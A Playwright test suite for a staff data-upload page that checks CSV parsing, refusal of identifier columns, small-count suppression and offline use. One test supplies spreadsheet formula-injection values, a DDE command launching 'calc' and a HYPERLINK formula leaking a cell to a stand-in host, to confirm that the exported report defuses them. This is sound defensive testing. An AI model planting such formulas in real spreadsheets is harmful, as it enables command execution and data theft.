/** Staff drop-in in Chromium: exact figures, the check report, refused columns, nothing leaves the page. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, readdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import Papa from 'papaparse';
import { connectBrowser, downloadBytes, openPage, runAxe, waitReady } from './harness';
import { cp1251 } from '../fixtures/encodings';
import { BUILD_DIR } from './global-setup';

let browser: Browser;
beforeAll(async () => {
	browser = await connectBrowser();
});
afterAll(() => browser?.close());

const encode1251 = (text: string) => Buffer.from(cp1251(text));

async function drop(page: Page, files: { name: string; buffer: Buffer }[]) {
	await page.setInputFiles('[data-testid="drop-zone"] input[type="file"]', files.map((f) => ({ ...f, mimeType: 'text/csv' })));
	await page.waitForSelector('[data-testid="ingest-summary"], [data-testid="upload-error"]', { timeout: 60_000 });
	await waitReady(page);
}

const summary = async (page: Page) => {
	const el = page.locator('[data-testid="ingest-summary"]');
	return [await el.getAttribute('data-rows-read'), await el.getAttribute('data-rows-loaded'), await el.getAttribute('data-rows-rejected')].map(Number);
};

describe('/upload/', () => {
	it('checks a Russian-locale Excel export (Windows-1251, semicolons, CRLF) and refuses identifier columns', async () => {
		const lines = ['Код клиента;ФИО;Телефон;Дата регистрации;Пол;Возраст;Гражданство;Инвалидность;Программа'];
		// 24 people in 2024, 12 in 2025 (3 of them returning from 2024), one row with a bad year, one unknown country.
		for (let i = 1; i <= 24; i++) lines.push(`K${i};Иванова Айгуль ${i};+996 555 00${String(i).padStart(2, '0')} 11;${String((i % 28) + 1).padStart(2, '0')}.03.2024;жен;${20 + i};Кыргызстан;${i % 3 === 0 ? 'да' : 'нет'};Приют`);
		for (let i = 22; i <= 33; i++) lines.push(`K${i};Петрова ${i};+996 700 11${i} 22;05.06.2025;${i % 2 ? 'муж' : 'жен'};${i};${i === 30 ? 'Атлантида' : 'Узбекистан'};нет;Приют`);
		lines.push('K99;Сидоров;+996 555 999 999;32.13.20233;муж;40;Кыргызстан;нет;Приют');
		const { page, offOriginRequests } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'выгрузка.csv', buffer: encode1251(lines.join('\r\n') + '\r\n') }]);
		expect(await summary(page)).toEqual([37, 36, 1]);
		expect(await page.getAttribute('[data-testid="ingest-summary"]', 'data-people')).toBe('33');
		const refused = await page.locator('[data-testid="refused-columns"] li').evaluateAll((li) => li.map((l) => l.getAttribute('data-column')));
		expect(refused).toEqual(['ФИО', 'Телефон']);
		const body = await page.content();
		expect(body).not.toContain('Иванова');
		expect(body).not.toContain('+996');
		expect(await page.getAttribute('[data-kpi="beneficiaries"]', 'data-value')).toBe('33');
		expect(await page.locator('[data-testid="problems"] tr[data-field="nationality"]').getAttribute('data-rows')).toBe('1');
		// Compared with what is published: this export's people per year, in the same frame as "ready".
		expect(await page.locator('[data-testid="comparison"] tr[data-year="2024"] td').nth(1).innerText()).toBe('24');
		// Identifier columns are absent from every download too.
		const [report] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /check report/i }).click()]);
		const csv = (await downloadBytes(report)).toString('utf8');
		expect(csv).toContain('column refused');
		expect(csv).not.toMatch(/Иванова|\+996/);
		const [release] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid="download-release"]').click()]);
		const doc = JSON.parse((await downloadBytes(release)).toString('utf8')) as { rows: { view: string; year: string; organisation: string; n: number }[] };
		expect(doc.rows.filter((r) => r.view === 'total' && r.year === '~all' && r.organisation === '~all').reduce((s, r) => s + r.n, 0)).toBe(33);
		expect(JSON.stringify(doc)).not.toMatch(/Иванова|\+996|K1\b/);
		expect(offOriginRequests()).toEqual([]);
		await page.close();
	});

	it('checks a Kyrgyz export (UTF-8 with BOM, tabs, Kyrgyz headers and values) as the build would', async () => {
		const lines = ['Кардардын коду\tКаттоо датасы\tЖынысы\tЖашы\tЖарандыгы\tМайыптуулук\tУюм'];
		const countries = ['Кыргызстан', 'Өзбекстан', 'Тажикстан', 'Казакстан'];
		for (let i = 1; i <= 40; i++) lines.push(`N${i}\t${String((i % 28) + 1).padStart(2, '0')}.04.2024\t${i % 4 ? 'аял' : 'эркек'}\t${10 + i}\t${countries[i % 4]}\t${i % 4 ? 'жок' : 'ооба'}\tТүндүк`);
		const { page } = await openPage(browser, '/upload/');
		// Dropped once the page has read its invented warm-up export (the others drop while it runs, and stop it).
		await page.waitForSelector('main[data-engine="warm"]', { timeout: 30_000 });
		expect(await page.locator('[data-testid="ingest-summary"], [data-kpi]').count()).toBe(0);
		await drop(page, [{ name: 'экспорт.tsv', buffer: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(lines.join('\n'), 'utf8')]) }]);
		expect(await summary(page)).toEqual([40, 40, 0]);
		// Every value understood, Kyrgyz country names included (Chromium's Intl has no Kyrgyz).
		expect(await page.locator('[data-testid="problems"] tr').count()).toBe(0);
		expect(await page.getAttribute('[data-kpi="nationalities"]', 'data-value')).toBe('4');
		expect(await page.getAttribute('[data-kpi="disability-share"]', 'data-value')).toBe('0.2500');
		// Nothing of the warm-up export is in the figures: its organisations are not among the choices.
		expect(await page.locator('select[name="org"] option').evaluateAll((o) => o.map((x) => (x as HTMLOptionElement).value))).toEqual(['', 'Түндүк']);
		await page.close();
	});

	it('writes the check report in Russian on /ru/upload/: the columns as the file names them, an Excel export\'s empty rows as such', async () => {
		const lines = ['Код клиента;Телефон;Дата регистрации;Гражданство;Цвет', 'K1;+996 555 000 111;01.03.2024;Кыргызстан;', 'K2;+996 555 000 222;02.03.2024;Атлантида;', 'K3;+996 555 000 333;;Узбекистан;', ';;;;', ';;;;'];
		const { page } = await openPage(browser, '/ru/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'выгрузка.csv', buffer: encode1251(lines.join('\r\n') + '\r\n') }]);
		expect(await summary(page)).toEqual([5, 2, 3]);
		const problems = await page.locator('[data-testid="problems"] tbody tr').evaluateAll((rows) => rows.map((r) => [...r.children].slice(0, 4).map((td) => td.textContent)));
		expect(problems).toEqual([
			['Дата регистрации', 'пустая строка (не заполнено ни одно распознанное поле)', '2', '5, 6'],
			['Дата регистрации', 'нет даты', '1', '4'],
			['Гражданство', 'страна не распознана', '1', '3']
		]);
		expect(await page.locator('[data-testid="refused-columns"] li').innerText()).toBe('Телефон (выгрузка.csv, столбец 2): похоже на столбец с номерами телефонов');
		expect(await page.locator('[data-testid="ignored-columns"] li').innerText()).toBe('Цвет (выгрузка.csv): поле не распознано');
		// The download says the same, for Excel in a Russian locale (BOM, ";"), without the phone numbers.
		const [report] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /отчёт о проверке/i }).click()]);
		const csv = await downloadBytes(report);
		expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(csv.subarray(3).toString('utf8').split('\r\n')).toEqual([
			'Файл;Результат;Столбец;Проблема;Строк;Первые строки;Значения',
			'выгрузка.csv;итог;;прочитано строк: 5 = загружено 2 + отклонено 3;5;;',
			'выгрузка.csv;строка отклонена;Дата регистрации;пустая строка (не заполнено ни одно распознанное поле);2;5 6;',
			'выгрузка.csv;строка отклонена;Дата регистрации;нет даты;1;4;',
			'выгрузка.csv;оставлена, значение неизвестно;Гражданство;страна не распознана;1;3;Атлантида',
			'выгрузка.csv;столбец отклонён;Телефон;похоже на столбец с номерами телефонов;;1;',
			'выгрузка.csv;столбец пропущен;Цвет;поле не распознано;;1;'
		]);
		await page.close();
	});

	it('shows small counts as "<k" until the exact switch is turned on', async () => {
		// 15 people, 3 of them Afghan and 3 with a disability: 3 is below k, so is 15 − 12 for the share.
		const rows = ['year,sex,nationality,disability', ...Array.from({ length: 15 }, (_, i) => `2024,F,${i < 3 ? 'AF' : 'KG'},${i < 3 ? 'yes' : 'no'}`)];
		const { page } = await openPage(browser, '/upload/');
		// Dropped as the engines start, during the warm-up read (~1 s): the drop stops it, and waits for the engines to be emptied.
		await page.waitForSelector('main[data-state="ready"][data-engine="started"]', { timeout: 30_000 });
		await drop(page, [{ name: 'small.csv', buffer: Buffer.from(rows.join('\n')) }]);
		const cells = page.locator('[data-chart="nationalities"] td');
		expect(await cells.allTextContents()).toEqual(['Kyrgyzstan', '12', 'Afghanistan', '<10']);
		// The comparison with the published figures follows the same rules: 3 of 15 is a bound, not 20%.
		const droppedShare = page.locator('[data-testid="comparison"] tr[data-year="2024"] td').nth(3);
		expect(await droppedShare.textContent()).toBe('<67%');
		await page.getByLabel(/exact small numbers/i).check();
		await expect.poll(() => cells.allTextContents()).toEqual(['Kyrgyzstan', '12', 'Afghanistan', '3']);
		expect(await droppedShare.textContent()).toBe('20%');
		await page.close();
	});

	it('asks for the year column when it is not recognised, and remembers the answer', async () => {
		const text = 'when,sex\n2024,F\n2025,M\n';
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'odd.csv', buffer: Buffer.from(text) }]);
		await page.selectOption('[data-testid="column-mapper"] select[name="year-column"]', '0');
		await page.getByRole('button', { name: /load with these columns/i }).click();
		await page.waitForSelector('[data-kpi="beneficiaries"]');
		await waitReady(page);
		expect(await summary(page)).toEqual([2, 2, 0]);
		await drop(page, [{ name: 'odd-again.csv', buffer: Buffer.from(text) }]);
		expect(await page.locator('[data-testid="column-mapper"]').count()).toBe(0);
		expect(await summary(page)).toEqual([2, 2, 0]);
		await page.close();
	});

	it('says clearly what is wrong with a workbook or an empty file', async () => {
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'book.xlsx', buffer: Buffer.from('PK\u0003\u0004rest-of-zip') }]);
		expect(await page.locator('[data-testid="file-error"]').innerText()).toMatch(/book\.xlsx.*(Excel|workbook)/i);
		await drop(page, [{ name: 'empty.csv', buffer: Buffer.alloc(0) }]);
		expect(await page.locator('[data-testid="file-error"]').innerText()).toMatch(/empty\.csv.*empty/i);
		expect(await summary(page)).toEqual([0, 0, 0]);
		await page.close();
	});

	it('rejects a row with a field missing and a long Russian note, with its line, and reads the rest (in Node, the build used to refuse the file)', async () => {
		const note = 'Клиентка обратилась повторно — нужна помощь юриста. '.repeat(300);
		const { page } = await openPage(browser, '/ru/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'заметки.csv', buffer: Buffer.from(`year,sex,notes\n2024,F,коротко\n2024,${note}\n2025,M,"${note}"\n2025,F\n`) }]);
		expect(await summary(page)).toEqual([4, 2, 2]);
		const rejected = page.locator('[data-testid="problems"] tr[data-rejected="true"]');
		expect(await rejected.innerText()).toMatch(/3, 5/);
		await page.close();
	});

	it('writes a check report in which no value of a hostile export runs as a formula in a spreadsheet', async () => {
		const hostile = [
			'case_id,year,sex,nationality,programme',
			...Array.from({ length: 12 }, (_, i) => `H${i},2024,F,KG,Shelter`),
			'H20,2024,@SUM(1+1)*cmd|\' /C calc\'!A0,"=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",Shelter',
			'H21,2024,+1+1,-2+3+cmd,Shelter',
			'H22,=1+1,F,KG,Shelter'
		].join('\n');
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'hostile.csv', buffer: Buffer.from(hostile) }]);
		const [report] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /check report/i }).click()]);
		const bytes = await downloadBytes(report);
		const cells = Papa.parse<string[]>(bytes.toString('utf8').replace(/^\uFEFF/, '')).data.flat();
		// The hostile values are in the report (nothing lost), as text a spreadsheet shows.
		expect(cells.some((c) => c.includes('=HYPERLINK(') && c.includes('@SUM(1+1)') === false)).toBe(true);
		expect(cells.filter((c) => /^'[=+@-]/.test(c)).length).toBeGreaterThanOrEqual(3);
		for (const cell of cells) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toBe(false);
		await page.close();
	});

	it('offers the very release the build publishes, byte for byte what npm run release writes: the sample dropped is the published release (nothing new), and released on its own it is audited in the browser, with the self-hosted solver, to the same bytes', async () => {
		const { page, requests, offOriginRequests } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'sample-export.csv', buffer: readFileSync('data/sample-export.csv') }]);
		await page.waitForSelector('[data-testid="download-release"]', { timeout: 60_000 });
		const published = JSON.parse(readFileSync(`${BUILD_DIR}/data/release.json`, 'utf8'));
		// The register the site publishes, with nothing after it: the published release, nobody held back.
		expect(await page.getAttribute('[data-testid="release-mode"]', 'data-mode')).toBe('against');
		expect(await page.getAttribute('[data-testid="lineage"]', 'data-new-rows')).toBe('0');
		expect(await page.getAttribute('[data-testid="held-back"]', 'data-people')).toBe('0');
		const { releaseToFile } = await import('$lib/server/release-exports');
		const cli = await releaseToFile([{ name: 'sample-export.csv', bytes: new Uint8Array(readFileSync('data/sample-export.csv')) }], published.exportDate);
		const download = async () => {
			const [file] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid="download-release"]').click()]);
			return (await downloadBytes(file)).toString('utf8');
		};
		expect(await download()).toBe(cli.json);
		// Released on its own: the release and its audit made in the browser, the same bytes.
		await page.locator('[data-testid="release-mode"] input[value="first"]').check();
		await page.waitForSelector('[data-testid="release-auditing"]', { state: 'detached', timeout: 60_000 });
		await page.waitForSelector('[data-testid="download-release"]');
		expect(await page.locator('[data-testid="audit"]').getAttribute('data-checked')).toBe(String(published.audit.reduce((s: number, a: { checked: number }) => s + a.checked, 0)));
		expect(await page.locator('[data-testid="audit"]').getAttribute('data-result')).toBe('pass');
		const bytes = await download();
		const doc = JSON.parse(bytes);
		expect(doc.rows).toEqual(published.rows);
		// Dated today, as the command writes it for today's export.
		expect(bytes).toBe((await releaseToFile([{ name: 'sample-export.csv', bytes: new Uint8Array(readFileSync('data/sample-export.csv')) }], doc.exportDate)).json);
		expect(doc.otherCountries).toEqual(published.otherCountries);
		expect(doc.loss.levels).toEqual(published.loss.levels);
		expect(requests().some((u) => /\/highs\.[\w-]+\.wasm$/.test(u))).toBe(true);
		expect(offOriginRequests()).toEqual([]);
		await page.close();
	});

	it('has no serious or critical accessibility violation after a load', async () => {
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'known.csv', buffer: readFileSync('tests/fixtures/known.csv') }]);
		// Problems carry the lines where a person finds them in a text editor.
		const lines = await page.locator('[data-testid="problems"] tbody tr').evaluateAll((rows) =>
			rows.map((r) => [r.getAttribute('data-field'), r.children[3].textContent])
		);
		expect(lines).toEqual([['date', '7'], ['date', '9'], ['sex', '8'], ['disability', '8'], ['nationality', '8']]);
		// 6 people over 3 years, fewer than k in all: nothing of them can be published, at any level.
		const top = page.locator('[data-testid="release-loss"] tr[data-view="nationality"][data-period="all"][data-scope="all"]');
		expect([await top.getAttribute('data-people'), await top.getAttribute('data-withheld')]).toEqual(['6', '6']);
		expect(await page.locator('[data-testid="audit"]').getAttribute('data-result')).toBe('pass');
		expect(await runAxe(page)).toEqual([]);
		await page.close();
	});
});

describe('/upload/ offline', () => {
	it('works with the network off once it has been opened: it reloads and reads an export', async () => {
		const { page, offOriginRequests } = await openPage(browser, '/upload/');
		await page.waitForSelector('main[data-engine="warm"]', { timeout: 30_000 });
		// Kept by the service worker: this page, all of the app's code (it loads some only after a
		// drop), and the engine's wasm (one of the two builds).
		const appCode = readdirSync(`${BUILD_DIR}/_app/immutable`, { recursive: true, withFileTypes: true })
			.filter((f) => f.isFile() && !f.name.endsWith('.wasm'))
			.map((f) => `/${relative(BUILD_DIR, join(f.parentPath, f.name))}`);
		const kept = () =>
			page.evaluate(async () => {
				const paths: string[] = [];
				for (const key of await caches.keys()) for (const request of await (await caches.open(key)).keys()) paths.push(new URL(request.url).pathname);
				return paths;
			});
		// The page says so once the service worker has kept it.
		await page.waitForSelector('[data-testid="offline-ready"]', { timeout: 30_000 });
		expect(await kept()).toEqual(expect.arrayContaining(['/upload/', ...appCode]));
		expect((await kept()).filter((path) => path.endsWith('.wasm'))).toHaveLength(1);
		await page.context().setOffline(true);
		await page.reload();
		await waitReady(page);
		await drop(page, [{ name: 'known.csv', buffer: readFileSync('tests/fixtures/known.csv') }]);
		expect(await summary(page)).toEqual([9, 7, 2]);
		expect(await page.getAttribute('[data-testid="ingest-summary"]', 'data-people')).toBe('6');
		// Its dashboard is drawn (the chart code, loaded after a drop only, came from the cache).
		expect(await page.locator('[data-chart="trend"] svg').count()).toBeGreaterThan(0);
		expect(await page.locator('[data-testid="upload-error"]').count()).toBe(0);
		expect(offOriginRequests()).toEqual([]);
		await page.close();
	});
});

describe('/upload/ → report', () => {
	it('builds the grant report on the dropped data', async () => {
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'known.csv', buffer: readFileSync('tests/fixtures/known.csv') }]);
		await page.getByLabel(/exact small numbers/i).check();
		await page.locator('[data-testid="report-on-this"]').click();
		const row = page.locator('[data-testid="report-table"] tr[data-indicator="beneficiaries"]');
		await row.waitFor();
		expect(await row.getAttribute('data-value')).toBe('6');
		expect(await page.locator('[data-testid="sentence"]').first().textContent()).toBe(
			'From 2023 to 2025 the organisations served 6 people, 50% of them with a disability (of 4 people whose status is known).'
		);
		// The dashboard's charts and the report's are on the page together: each labelled by its own.
		const ids = await page.locator('[id]').evaluateAll((els) => els.map((e) => e.id));
		expect(ids.filter((id, i) => ids.indexOf(id) !== i)).toEqual([]);
		expect(await page.locator('[data-chart="trend"]').count()).toBe(2);
		expect(await runAxe(page)).toEqual([]);
		await page.close();
	});
});

describe('/upload/ with a large export', () => {
	it('reads it in parts, one DuckDB worker per core, to the figures and lines of reading it whole', async () => {
		// 300,000 rows (5 MB): ids P0–P199999, the first 100,000 recurring 200,000 rows later; a missing
		// year and an empty row in the second half, where the lines are counted from its part's start.
		const rows = Array.from({ length: 300_000 }, (_, i) => `P${i % 200_000},${i === 250_000 ? 'n/a' : 2019 + (i % 7)},${i % 3 ? 'F' : 'M'}`);
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await drop(page, [{ name: 'large.csv', buffer: Buffer.from(['case_id,year,sex', ...rows, ',,'].join('\n') + '\n') }]);
		const cores = await page.evaluate(() => navigator.hardwareConcurrency);
		expect(page.workers().length).toBe(Math.min(4, Math.max(1, cores)));
		expect(await summary(page)).toEqual([300_001, 299_999, 2]);
		const problems = await page.locator('[data-testid="problems"] tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.children].slice(1, 4).map((td) => td.textContent)));
		expect(problems).toEqual([
			['empty row (no recognised field filled)', '1', '300002'],
			['missing year', '1', '250002']
		]);
		expect(await page.getAttribute('[data-kpi="beneficiaries"]', 'data-value')).toBe('200000');
		// Each id in the year of its first valid record (P0–P99999: the earlier of their two years).
		const first = new Map<number, number>();
		for (let i = 0; i < 300_000; i++) if (i !== 250_000) first.set(i % 200_000, Math.min(first.get(i % 200_000) ?? 9999, 2019 + (i % 7)));
		const byYear = new Map<number, number>();
		for (const year of first.values()) byYear.set(year, (byYear.get(year) ?? 0) + 1);
		const cells = await page.locator('[data-chart="trend"] tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.children].map((td) => td.textContent)));
		expect(cells.map(([year, n]) => [Number(year), Number(n!.replace(/\D/g, ''))])).toEqual([...byYear].sort((a, b) => a[0] - b[0]));
		await page.close();
	});

	it('shows the phases, and cancels: the page stays usable and the next drop loads', async () => {
		const rows = ['case_id,year,sex', ...Array.from({ length: 300_000 }, (_, i) => `C${i},${2019 + (i % 7)},${i % 3 ? 'F' : 'M'}`)];
		const { page } = await openPage(browser, '/upload/');
		await waitReady(page);
		await page.setInputFiles('[data-testid="drop-zone"] input[type="file"]', { name: 'big.csv', mimeType: 'text/csv', buffer: Buffer.from(rows.join('\n')) });
		const progress = page.locator('[data-testid="progress"]');
		await progress.waitFor();
		expect(['reading', 'decoding', 'loading', 'checking']).toContain(await progress.getAttribute('data-phase'));
		await page.getByRole('button', { name: 'Cancel' }).click();
		await page.locator('[data-testid="upload-error"]').waitFor();
		expect(await page.locator('[data-testid="upload-error"]').innerText()).toBe('Loading was cancelled.');
		expect(await page.locator('[data-testid="ingest-summary"]').count()).toBe(0);
		await drop(page, [{ name: 'known.csv', buffer: readFileSync('tests/fixtures/known.csv') }]);
		expect(await summary(page)).toEqual([9, 7, 2]);
		await page.close();
	});
});
